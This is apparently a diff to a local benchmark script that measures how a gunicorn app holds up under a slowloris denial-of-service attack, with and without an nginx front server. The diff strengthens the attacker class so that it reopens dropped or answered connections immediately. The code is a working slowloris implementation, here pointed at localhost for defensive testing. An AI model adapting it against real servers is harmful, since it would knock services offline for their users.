@@ -4,7 +4,7 @@ new connection, as a new visitor's) are timed before and during the attack, agai
 gunicorn command alone (before) and behind the shipped nginx front server (after), beside a bare
 Flask endpoint under the same gunicorn settings measured in the same run.
 
-    python bench/slowloris_bench.py [--connections 9000] [--seconds 30]
+    python bench/slowloris_bench.py [--connections 9000] [--seconds 60]
 
 nginx runs the plain-HTTP variant of deploy/nginx (every limit and timeout as shipped, the HTTPS
 server block served without TLS): thousands of TLS handshakes from a Python attacker would measure
@@ -16,6 +16,7 @@ import argparse
 import http.client
 import random
 import resource
+import selectors
 import socket
 import sys
 import tempfile
@@ -39,19 +40,20 @@ def pct(values, q):
 
 
 class Slowloris:
-    """count connections to port, each trickling one header line every TRICKLE_EVERY_S; a closed one
-    is opened again, as a real attacker's would be."""
+    """count connections to port, each trickling one header line every TRICKLE_EVERY_S; one the
+    server closes (or answers, e.g. with a 408) is opened again at once, as a real attacker's is."""
 
     def __init__(self, port: int, count: int):
         self.port, self.count = port, count
         self.sockets: list[socket.socket | None] = [None] * count
+        self.selector = selectors.DefaultSelector()
         self.opened = self.reopened = self.failed = 0
         self.stop = threading.Event()
         self.thread = threading.Thread(target=self._run, daemon=True)
 
     def _open(self, n: int) -> None:
         try:
-            sock = socket.create_connection(("127.0.0.1", self.port), timeout=1)
+            sock = socket.create_connection(("127.0.0.1", self.port), timeout=0.5)
             sock.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris-bench\r\n")
             sock.setblocking(False)
         except OSError:
@@ -59,19 +61,31 @@ class Slowloris:
             self.sockets[n] = None
             return
         self.sockets[n] = sock
+        self.selector.register(sock, selectors.EVENT_READ, n)
+
+    def _drop(self, n: int) -> None:
+        sock, self.sockets[n] = self.sockets[n], None
+        if sock is not None:
+            self.selector.unregister(sock)
+            sock.close()
 
     def start(self) -> float:
         """Open every connection; returns how long that took."""
         began = time.perf_counter()
         for n in range(self.count):
             self._open(n)
-        self.opened = sum(s is not None for s in self.sockets)
+        self.opened = self.open_now()
         self.thread.start()
         return time.perf_counter() - began
 
     def _run(self):
         n, per_tick = 0, max(1, self.count // (TRICKLE_EVERY_S * 10))
-        while not self.stop.wait(0.1):
+        ends = time.monotonic() + 600  # bounded whatever the caller does
+        while not self.stop.is_set() and time.monotonic() < ends:
+            for key, _ in self.selector.select(timeout=0.1):  # closed or answered by the server
+                self._drop(key.data)
+                self._open(key.data)
+                self.reopened += 1
             for _ in range(per_tick):
                 sock = self.sockets[n]
                 try:
@@ -79,8 +93,7 @@ class Slowloris:
                         raise OSError
                     sock.send(b"X-a-%d: b\r\n" % random.randrange(10**6))
                 except OSError:
-                    if sock is not None:
-                        sock.close()
+                    self._drop(n)
                     self._open(n)
                     self.reopened += 1
                 n = (n + 1) % self.count
@@ -91,9 +104,9 @@ class Slowloris:
     def close(self):
         self.stop.set()
         self.thread.join(10)
-        for sock in self.sockets:
-            if sock is not None:
-                sock.close()
+        for n in range(self.count):
+            self._drop(n)
+        self.selector.close()
 
 
 def probe(url: str, path: str, seconds: float) -> tuple[list[float], int]:
@@ -167,7 +180,7 @@ def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--connections", type=int, default=9000,
                         help="slow connections (default: just past gunicorn's 2 workers x 4,000)")
-    parser.add_argument("--seconds", type=int, default=30, help="how long to probe during the attack (max 120)")
+    parser.add_argument("--seconds", type=int, default=60, help="how long to probe during the attack (max 120)")
     args = parser.parse_args()
     args.seconds = min(args.seconds, 120)
     raise_open_files()
